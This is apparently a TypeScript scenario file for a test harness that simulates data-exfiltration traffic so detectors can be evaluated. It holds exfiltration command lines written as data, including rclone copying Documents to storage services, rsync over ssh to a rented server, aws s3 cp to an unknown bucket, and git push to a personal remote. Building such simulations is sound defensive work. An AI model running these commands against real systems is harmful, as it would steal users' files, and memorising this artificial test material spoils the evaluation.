import { inventWord } from '../invent.js';
import { DAY, HOUR, SECOND, type Program } from '../machine.js';
import {
  AWS_CLI,
  CHROME_HELPER,
  copiedTo,
  developerId,
  GIT,
  GIT_HTTP,
  RCLONE,
  RSYNC,
  SSH,
} from '../fleet/programs.js';
import type { Attack } from './scenario.js';
import type { Stage } from './stage.js';

function attack(scenario: Omit<Attack, 'kind'>): Attack {
  return { kind: 'attack', ...scenario };
}

/** rclone as installed, or under an innocent name somewhere else. */
function rclone(stage: Stage): Program {
  return stage.random.chance(0.5)
    ? RCLONE
    : copiedTo(RCLONE, `${stage.home}/Library/${stage.random.pick(['updater', 'sync-agent', 'helper'])}`);
}

function drive(stage: Stage): string {
  const bucket = `${inventWord(stage.random)}-${stage.random.hex(4)}`;
  return stage.random.pick([
    `${bucket}.s3.eu-central-1.amazonaws.com`,
    'gfs270n331.userstorage.mega.co.nz',
    `s3.${stage.random.pick(['us-west-004', 'eu-central-003'])}.backblazeb2.com`,
    `${bucket}.fra1.digitaloceanspaces.com`,
  ]);
}

function bulkCopy(stage: Stage, version: 4 | 6): void {
  const program = rclone(stage);
  const process = stage.command(program, [
    program.executable,
    'copy',
    `${stage.home}/Documents`,
    'remote:x',
    '--transfers',
    '16',
  ]);
  const name = drive(stage);
  stage.send({
    from: process,
    to: () => stage.named(name, 443, version),
    connections: stage.around(900),
    seconds: 300,
    out: stage.around(40e9),
    in: 80e6,
    campaign: stage.around(7200),
  });
}

export const CLOUD_TOOLS: readonly Attack[] = [
  attack({
    id: 'A21',
    title: 'Bulk copy to a storage service at full speed',
    difficulty: 'must',
    techniques: ['T1567.002', 'T1030'],
    uses: ['rclone'],
    presence: 'active',
    campaign: 7200,
    play: (stage) => bulkCopy(stage, 4),
  }),
  attack({
    id: 'A37',
    title: 'The same over IPv6',
    difficulty: 'must',
    techniques: ['T1567.002'],
    uses: ['rclone'],
    presence: 'active',
    campaign: 7200,
    play: (stage) => bulkCopy(stage, 6),
  }),
  attack({
    id: 'A22',
    title: 'Slow drip to a storage service over days',
    difficulty: 'must',
    techniques: ['T1029', 'T1030', 'T1567.002'],
    uses: ['rclone'],
    presence: 'any',
    campaign: 604_800,
    play: (stage) => {
      const program = rclone(stage);
      const process = stage.exec(program, {
        args: [
          program.executable,
          'sync',
          `${stage.home}/Documents`,
          'r:x',
          '--bwlimit',
          '08:00,64k 19:00,256k',
        ],
      });
      stage.send({
        from: process,
        to: stage.named(drive(stage)),
        connections: 600,
        seconds: 1800,
        out: stage.around(58e9),
        in: 200e6,
        campaign: 604_800,
        jitter: 0.5,
      });
    },
  }),
  attack({
    id: 'A27',
    title: 'Nightly rsync to an unknown server',
    difficulty: 'should',
    techniques: ['T1020', 'T1048.002'],
    uses: ['ssh', 'rsync'],
    presence: 'any',
    campaign: 1_209_600,
    play: (stage) => {
      const to = stage.rented(stage.random.pick([22, 443]));
      const perNight = stage.around(100e6);
      for (let at = stage.start; at < stage.end; at += DAY + stage.random.between(-0.3, 0.3) * HOUR) {
        const rsync = stage.exec(RSYNC, {
          at,
          until: at + 5 * SECOND,
          args: ['rsync', '-az', `${stage.home}/Documents`, `${to.name}:`],
        });
        const ssh = stage.exec(SSH, {
          at: at + 200,
          until: at + 5 * SECOND,
          args: ['/usr/bin/ssh', to.name, 'rsync', '--server'],
          parent: rsync,
        });
        stage.connect(ssh, {
          at: at + 400,
          seconds: stage.around(240, 1.3),
          out: perNight * stage.random.between(0.8, 1.2),
          in: 640e3,
          to,
        });
      }
    },
  }),
  attack({
    id: 'A28',
    title: 'Copy to a bucket of an unknown account',
    difficulty: 'should',
    techniques: ['T1567.002'],
    uses: ['aws'],
    presence: 'active',
    campaign: 10_800,
    roles: ['developer', 'scientist'],
    play: (stage) => {
      const bucket = `${inventWord(stage.random)}-${stage.random.hex(5)}`;
      const process = stage.command(AWS_CLI, [
        'aws',
        's3',
        'cp',
        '--recursive',
        `${stage.home}/work`,
        `s3://${bucket}/`,
      ]);
      stage.send({
        from: process,
        to: () => stage.named(`${bucket}.s3.us-east-1.amazonaws.com`),
        connections: stage.around(250),
        seconds: 60,
        out: stage.around(12e9),
        in: 40e6,
        campaign: stage.around(10_800),
      });
    },
  }),
  attack({
    id: 'A45',
    title: 'Insider uploads to a file drop in the browser',
    difficulty: 'must',
    techniques: ['T1567'],
    uses: ['browser'],
    presence: 'active',
    campaign: 900,
    needsDestination: true,
    play: (stage) => {
      const process = stage.through(['chrome', 'edge', 'firefox', 'safari'], CHROME_HELPER, {
        args: [CHROME_HELPER.executable, '--type=utility'],
      });
      const site = stage.random.pick([
        'store4.gofile.io',
        'transfer.sh',
        'wetransfer.com',
        'filebin.net',
        'file.io',
      ]);
      stage.send({
        from: process,
        to: stage.named(site),
        connections: 6,
        seconds: 600,
        out: stage.around(3e9),
        in: 30e6,
        campaign: stage.around(900, 1.5),
        transport: stage.random.pick(['tcp', 'quic']),
      });
    },
  }),
  attack({
    id: 'A46',
    title: 'Insider syncs to a personal account of the approved service',
    difficulty: 'blind',
    techniques: ['T1567.002'],
    uses: ['sync'],
    presence: 'active',
    campaign: 21_600,
    play: (stage) => {
      const process = stage.through(
        ['onedrive', 'google-drive', 'dropbox', 'box'],
        developerId(
          '/Applications/OneDrive.app/Contents/MacOS/OneDrive',
          'com.microsoft.OneDrive',
          'UBF8T346G9',
          'Microsoft Corporation',
        ),
      );
      const name =
        process.name === 'OneDrive'
          ? 'my.microsoftpersonalcontent.com'
          : process.name === 'Dropbox'
            ? 'block.dropbox.com'
            : process.name === 'Box'
              ? 'upload.app.box.com'
              : 'www.googleapis.com';
      stage.send({
        from: process,
        to: () => stage.named(name),
        connections: 40,
        seconds: 1800,
        out: stage.around(25e9),
        in: 300e6,
        campaign: stage.around(21_600),
      });
    },
  }),
  attack({
    id: 'A47',
    title: 'Whole repository pushed to a personal remote',
    difficulty: 'hard',
    techniques: ['T1567.001'],
    uses: ['git'],
    presence: 'active',
    campaign: 90,
    roles: ['developer'],
    play: (stage) => {
      const git = stage.command(GIT, ['git', 'push', 'mine', '--all']);
      const site = stage.random.pick(['github.com', 'gitlab.com']);
      const remote = stage.exec(GIT_HTTP, {
        args: ['git-remote-https', 'mine', `https://${site}/${inventWord(stage.random)}/x.git`],
        parent: git,
        until: stage.start + SECOND,
      });
      stage.connect(remote, {
        at: stage.start + SECOND,
        seconds: stage.around(90),
        out: stage.around(1.2e9),
        in: 3e6,
        to: stage.named(site),
      });
    },
  }),
  attack({
    id: 'A55',
    title: 'Upload that grows six percent a day',
    difficulty: 'should',
    techniques: ['T1029'],
    uses: ['arq'],
    presence: 'any',
    campaign: 3_456_000,
    fromTheStart: true,
    needsDestination: true,
    play: (stage) => {
      const process = stage.through(
        ['arq'],
        developerId(
          '/Applications/Arq.app/Contents/Resources/ArqAgent.app/Contents/MacOS/ArqAgent',
          'com.haystacksoftware.ArqAgent',
          '48ZCSDVL96',
          'Haystack Software LLC',
        ),
        { user: 'root' },
      );
      const bucket = stage.named(`${inventWord(stage.random)}-archive.s3.ap-southeast-2.amazonaws.com`);
      let perDay = stage.around(580e6);
      for (let at = stage.start; at < stage.end; at += DAY) {
        const share = Math.min(1, (stage.end - at) / DAY);
        stage.send({
          from: process,
          to: bucket,
          at,
          connections: Math.ceil(30 * share),
          seconds: 600,
          out: perDay * share,
          in: perDay / 100,
          campaign: 80_000 * share,
        });
        perDay *= 1.06;
      }
    },
  }),
];
